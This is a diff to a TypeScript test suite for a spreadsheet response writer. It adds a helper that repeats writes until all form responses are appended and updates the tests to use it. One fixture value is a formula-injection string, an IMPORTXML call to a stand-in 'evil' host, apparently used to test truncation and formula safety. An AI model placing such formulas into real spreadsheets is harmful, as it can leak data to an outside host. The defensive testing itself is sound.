@@ -6,6 +6,8 @@ import { EmulatorHarness } from '../sheets/testing/emulator-harness';
 import { TRUNCATION_MARKER } from './cell-text';
 import { LayoutStore } from './layout-store';
 import { SheetWriter } from './sheet-writer';
+import type { ResponseSubmitted } from '@collect/events';
+import type { SheetTargetConfig } from '../connector/sheet-target-config';
 
 jest.setTimeout(60_000);
 
@@ -29,6 +31,23 @@ function writer(tabCellLimit = 10_000_000): SheetWriter {
   return new SheetWriter(emulator.client, new LayoutStore(pool), { tabCellLimit });
 }
 
+/** Writes like the runtime calls: again with what is left while the writer continues later. */
+async function writeAll(
+  w: SheetWriter,
+  config: SheetTargetConfig,
+  responses: readonly ResponseSubmitted[],
+): Promise<string[]> {
+  const appended: string[] = [];
+  let left = responses;
+  for (let call = 0; call < 10; call++) {
+    const result = await w.write(config, left);
+    appended.push(...result.appended);
+    left = left.filter((r) => !result.appended.includes(r.responseId));
+    if (!result.continuesLater || left.length === 0) break;
+  }
+  return appended;
+}
+
 async function tab(spreadsheetId: string, title: string) {
   return (await emulator.client.readTail(spreadsheetId, title, 10_000)).map((row) => row.values);
 }
@@ -39,11 +58,15 @@ describe('SheetWriter against the emulator', () => {
     const config = { spreadsheetId, sheet: 'Responses' };
     const form = newForm();
     const before = await emulator.requestCount();
-    await writer().write(config, responsesOf(form, 3));
-    await writer().write(config, responsesOf(form, 3));
-    // get + addSheet + header + 2 appends: the second write touched only its append.
-    expect((await emulator.requestCount()) - before).toBeLessThanOrEqual(5);
-    await writer().write({ ...config, columnTitles: { name: 'Your name' } }, responsesOf(form, 1));
+    await writeAll(writer(), config, responsesOf(form, 3));
+    await writeAll(writer(), config, responsesOf(form, 3));
+    // get + addSheet, get + header, 2 appends: the second write touched only its append.
+    expect((await emulator.requestCount()) - before).toBeLessThanOrEqual(6);
+    await writeAll(
+      writer(),
+      { ...config, columnTitles: { name: 'Your name' } },
+      responsesOf(form, 1),
+    );
     const rows = await tab(spreadsheetId, 'Responses');
     expect(rows[0]).toEqual(['responseId', 'submittedAt', 'Your name', 'income']);
     expect(rows).toHaveLength(8);
@@ -59,8 +82,8 @@ describe('SheetWriter against the emulator', () => {
         { questionId: 'f', value: '=IMPORTXML("http://evil","//a")' },
       ],
     };
-    const result = await writer().write({ spreadsheetId, sheet: 'Responses' }, [long]);
-    expect(result.appended).toEqual([long.responseId]);
+    const appended = await writeAll(writer(), { spreadsheetId, sheet: 'Responses' }, [long]);
+    expect(appended).toEqual([long.responseId]);
     const [, row] = await tab(spreadsheetId, 'Responses');
     expect(String(row![2]).endsWith(TRUNCATION_MARKER)).toBe(true);
     expect(String(row![2])).toHaveLength(50_000);
@@ -74,8 +97,8 @@ describe('SheetWriter against the emulator', () => {
     const small = writer(4 * 30); // 4 columns: 30 rows per tab including the header
     const first = responsesOf(form, 25);
     const second = responsesOf(form, 10);
-    await small.write(config, first);
-    await small.write(config, second);
+    await writeAll(small, config, first);
+    await writeAll(small, config, second);
     const one = await tab(spreadsheetId, 'Responses');
     const two = await tab(spreadsheetId, 'Responses (2)');
     expect(one[0]).toEqual(two[0]);
@@ -92,7 +115,7 @@ describe('SheetWriter against the emulator', () => {
     const spreadsheetId = await emulator.newSpreadsheet();
     const config = { spreadsheetId, sheet: 'Responses' };
     const [landed, lost] = [responsesOf(newForm(), 5), responsesOf(newForm(), 5)];
-    await writer().write(config, landed);
+    await writeAll(writer(), config, landed);
     const ids = [...landed, ...lost].map((r) => r.responseId);
     expect(await writer().recognise(config, ids)).toEqual(landed.map((r) => r.responseId));
   });
